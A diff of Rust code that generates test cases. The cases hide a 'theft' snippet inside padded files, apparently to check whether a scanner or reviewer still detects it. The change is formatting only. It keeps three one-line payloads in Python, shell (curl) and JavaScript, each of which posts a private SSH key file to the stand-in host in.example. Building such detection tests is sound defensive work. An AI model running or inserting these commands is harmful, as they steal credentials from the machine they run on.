@@ -225,17 +225,20 @@ const BIG: usize = 1_000_000;
 
 /// All cases, each the same at every run.
 pub fn cases() -> Vec<Case> {
-    let each = |ballast: &'static Ballast| {
-        ballast.on.split(' ').map(move |extension| case(ballast, extension))
-    };
+    let each =
+        |ballast: &'static Ballast| ballast.on.split(' ').map(move |extension| case(ballast, extension));
     BALLAST.iter().flat_map(each).collect()
 }
 
 fn case(ballast: &Ballast, extension: &'static str) -> Case {
     let theft = match extension {
-        "py" => "import requests\nrequests.post('https://in.example/a', data=open('/root/.ssh/id_rsa').read())",
+        "py" => {
+            "import requests\nrequests.post('https://in.example/a', data=open('/root/.ssh/id_rsa').read())"
+        }
         "sh" => "curl -d @$HOME/.ssh/id_rsa https://in.example/a",
-        _ => "fetch('https://in.example/a', {method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa')});",
+        _ => {
+            "fetch('https://in.example/a', {method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa')});"
+        }
     };
     // The same on both sides, but for its counts.
     let mut state = ballast.name.len() as u64;
@@ -267,7 +270,8 @@ fn filled(piece: &str, count: usize, state: &mut u64) -> String {
     }
     let listed = |times: usize, one: &dyn Fn(usize) -> String| (0..times).map(one).collect::<String>();
     let chance = next(state) % 9;
-    let mut out = piece.replace("{n}", &count.to_string()).replace("{p}", &count.saturating_sub(1).to_string());
+    let mut out =
+        piece.replace("{n}", &count.to_string()).replace("{p}", &count.saturating_sub(1).to_string());
     let long: [(&str, &dyn Fn() -> String); 12] = [
         ("{ends}", &|| listed(7, &|at| format!("E{}\n", count + at))),
         ("{big}", &|| format!("text{chance} ").repeat(BIG / 6)),
@@ -279,8 +283,12 @@ fn filled(piece: &str, count: usize, state: &mut u64) -> String {
         ("{strips}", &|| ".strip()".repeat(50)),
         ("{elifs}", &|| "elif false; then :\n".repeat(1_000)),
         ("{pyelifs}", &|| "elif 0: pass\n".repeat(100)),
-        ("{modules}", &|| listed(2_000, &|at| format!("{at}:function(e,t,n){{\"use strict\";var r=n(1);t.a=r(e)}},"))),
-        ("{indents}", &|| listed(95, &|at| format!("{}if 0:\n", " ".repeat(at))) + &" ".repeat(95) + "pass\n"),
+        ("{modules}", &|| {
+            listed(2_000, &|at| format!("{at}:function(e,t,n){{\"use strict\";var r=n(1);t.a=r(e)}},"))
+        }),
+        ("{indents}", &|| {
+            listed(95, &|at| format!("{}if 0:\n", " ".repeat(at))) + &" ".repeat(95) + "pass\n"
+        }),
     ];
     for (mark, make) in long {
         if out.contains(mark) {
